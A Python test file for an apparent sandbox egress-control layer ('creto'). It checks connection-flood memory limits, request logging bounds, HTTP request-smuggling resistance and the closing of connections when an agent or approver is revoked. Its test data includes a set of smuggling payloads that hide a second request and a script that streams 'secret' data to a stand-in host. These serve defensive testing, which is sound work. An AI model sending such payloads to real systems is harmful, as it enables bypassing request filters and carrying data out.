"""Attacks on the way out of a sandbox: what a connection carries, what it costs, and what becomes of it."""

from __future__ import annotations

import contextlib
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

import creto
from creto._confined import LayerHooks
from creto.config._sections import Approver as ApproverSection
from creto.errors import OversightRequiredError
from creto.runtime import Connection
from desks import wait_for_request, wait_until
from sandboxes import BACKENDS, Answers, Bench, Served, served, skip_unless

pytestmark = pytest.mark.anyio


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module", params=BACKENDS)
def pool(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    size = {"warm_pool_min_size": 1, "warm_pool_max_size": 2}
    with served(request.param, tmp_path_factory.mktemp("state"), size) as pool:
        yield pool


@pytest.fixture
def bench(pool: Served, tmp_path: Path) -> Bench:
    return pool.bench(tmp_path / "project")


FLOOD = """
import socket, sys
for _ in range(int(sys.argv[1])):
    with socket.socket() as one:
        try:
            one.connect(("8.8.8.8", 80))
            one.recv(1)
        except OSError:
            pass
"""


async def test_a_flood_of_refused_connections_takes_no_more_of_our_memory(bench: Bench) -> None:
    """A program makes ten thousand a second: an hour of them, each kept, would be ten gigabytes."""
    async with bench.box() as box:
        assert (await box.run(["python3", "-c", FLOOD, "3000"])).status == 0
        with anyio.fail_after(60):
            while len(box.connections) + box.before["refused"] < 3000:
                await anyio.sleep(0.02)
        assert len(box.connections) <= 1000
        assert {(c.host, c.port, c.allowed) for c in box.connections} == {("8.8.8.8", 80, False)}


REQUESTS = """
import http.client
one = http.client.HTTPConnection("packages.example")
for n in range(60):
    one.request("GET", f"/{n}?" + "x" * 60_000)
    one.getresponse().read()
"""


async def test_what_is_kept_of_a_connection_s_requests_is_bounded_too(bench: Bench) -> None:
    async with bench.box(Answers(allow=["packages.example"])) as box:
        result = await box.run(["python3", "-c", REQUESTS])
        assert result.status == 0, result.stderr
        [connection] = box.connections
        assert connection.requests is not None
        assert connection.requests[-1].startswith("GET /59?")
        assert sum(map(len, connection.requests)) <= 50 * 500


HOST = b"Host: packages.example:8000\r\n"
HIDDEN = b"GET /hidden HTTP/1.1\r\n" + HOST + b"\r\n"
SENT = """
import socket, sys
with socket.create_connection(("packages.example", 8000), 10) as one:
    one.settimeout(1)
    one.sendall(bytes.fromhex(sys.argv[1]))
    try:
        while one.recv(4096):
            pass
    except OSError:
        pass
"""


WAYS = {
    "a space first": b" GET /open HTTP/1.1\r\n\r\n" + HIDDEN,
    "form feeds for spaces": b"GET\x0c/open\x0cHTTP/1.1\r\n\r\n" + HIDDEN,
    "carriage returns for spaces": b"GET\r/open\rHTTP/1.1\r\n\r\n" + HIDDEN,
    "no-break spaces of Latin-1": b"GET\xa0/open\xa0HTTP/1.1\r\n\r\n" + HIDDEN,
    "a control character in the target": b"GET /open\x01 HTTP/1.1\r\n\r\n" + HIDDEN,
    "a zero byte in the target": b"GET /open\0 HTTP/1.1\r\n\r\n" + HIDDEN,
    "HTTP/0.9": b"GET hidden\r\n\r\n",
    "a body that its server does not read": b"GET /open HTTP/1.1\r\n"
    + HOST
    + b"Content-Length: %d\r\n\r\n" % len(HIDDEN)
    + HIDDEN,
}


async def test_what_is_read_here_in_another_way_than_by_its_server_hides_no_request(bench: Bench, pool: Served) -> None:
    """Python's own server parts words at more than spaces, and leaves a body unread where it expects none."""

    class Strict(Answers):
        async def request(self, connection: Connection, method: str, target: str) -> bool:
            return target == "/open"

    def hidden() -> list[str]:
        return [request for request in bench.seen if request.endswith("hidden")]

    async with bench.box(Strict(allow=["packages.example"])) as box:
        for way, sent in WAYS.items():
            bench.seen.clear()
            with socket.create_connection(("127.0.0.1", pool.port), 60) as plain:
                plain.sendall(sent)
                await anyio.to_thread.run_sync(wait_until, lambda: True if hidden() else None)  # open to anybody
            bench.seen.clear()
            await box.run(["python3", "-c", SENT, sent.hex()])
            assert not hidden(), way


SENDING = """
import socket, time
with socket.create_connection(("stream.example", 9000)) as one:
    try:
        for n in range(1200):
            one.sendall(b"secret\\n")
            time.sleep(0.1)
    except OSError:
        print("ended")
"""


@contextlib.contextmanager
def _drain() -> Iterator[tuple[int, threading.Event]]:
    """A server that takes what comes and says nothing: its port, and whether anything came."""
    came = threading.Event()

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                taken, _ = server.accept()
                with taken, contextlib.suppress(OSError):
                    while taken.recv(4096):
                        came.set()

    with socket.create_server(("127.0.0.1", 0)) as server:
        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()[1], came
        server.shutdown(socket.SHUT_RDWR)


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize("change", ["agent", "policy"])
async def test_a_connection_ends_with_what_let_it_through(
    state: Path, tmp_path: Path, backend: str, change: str
) -> None:
    """It would else carry data out for as long as the program keeps it open, for whom nobody trusts any more."""
    skip_unless(backend)
    rules, project = tmp_path / "rules.cedar", tmp_path / "project"
    rules.write_text('@id("all") permit (principal, action, resource);')
    (tmp_path / "creto.toml").write_text('[authz]\npolicies = ["rules.cedar"]\n[runtime]\nwarm_pool_min_size = 0\n')
    project.mkdir()
    with _drain() as (port, came):
        async with creto.open(state, config=[tmp_path / "creto.toml"]) as layer:
            agent, hosts = layer.agent("sender"), {"stream.example": f"127.0.0.1:{port}"}
            async with layer.sandbox(agent, project, backend=backend, hosts=hosts) as box:
                program = await box.start(["python3", "-c", SENDING])
                with anyio.fail_after(60):
                    await anyio.to_thread.run_sync(came.wait)
                if change == "agent":
                    await layer.parts.identities.revoke("sender", "left")
                else:
                    with rules.open("a") as file:
                        file.write('@id("shut") forbid (principal, action == Action::"net:connect", resource);')
                with anyio.fail_after(60):
                    result = await program.wait()
                assert result.stdout == b"ended\n", result.stderr
                [connection] = box.connections
                assert "would not be any more" in (connection.reason or "")
            [refused] = await layer.parts.audit.query(action="net:connect", kind="refusal")
            assert refused.detail["refused"] == "open connection"


ASKING = """
@id("all") permit (principal, action, resource);
@id("web") @oversight("web") forbid (principal, action in [Action::"net:connect", Action::"http:get"], resource);
"""


@pytest.mark.parametrize("change", ["revoked", "narrowed"])
async def test_a_yes_to_a_connection_serves_no_request_once_its_approver_counts_no_more(
    state: Path, tmp_path: Path, change: str
) -> None:
    """A connection stays open for hours, and each request on it would go on the word of who may say nothing now."""
    (tmp_path / "asking.cedar").write_text(ASKING)
    (tmp_path / "creto.toml").write_text('[authz]\npolicies = ["asking.cedar"]\n')
    async with creto.open(state, config=[tmp_path / "creto.toml"]) as layer:
        desk = layer.parts.desk
        ann, _ = desk.approvers.add("ann", policies=["web"])
        hooks = LayerHooks(layer, layer.agent("reader"), tmp_path, timeout=60)
        connection = Connection("site.example", 80, "http", True)
        async with anyio.create_task_group() as tasks:
            tasks.start_soon(hooks.connection, connection)
            desk.approve((await anyio.to_thread.run_sync(wait_for_request, desk))[0], ann)
        assert await hooks.request(connection, "GET", "/a")
        assert await hooks.ended(connection) is None
        if change == "revoked":
            desk.approvers.revoke("ann")
        else:
            desk.approvers.configure([ApproverSection(name="ann", policies=["else"])])
        hooks = LayerHooks(layer, layer.agent("reader"), tmp_path, timeout=0.1)
        with pytest.raises(OversightRequiredError, match="nobody answered in time"):
            await hooks.request(connection, "GET", "/b")
        assert "would not be any more" in (await hooks.ended(connection) or "")
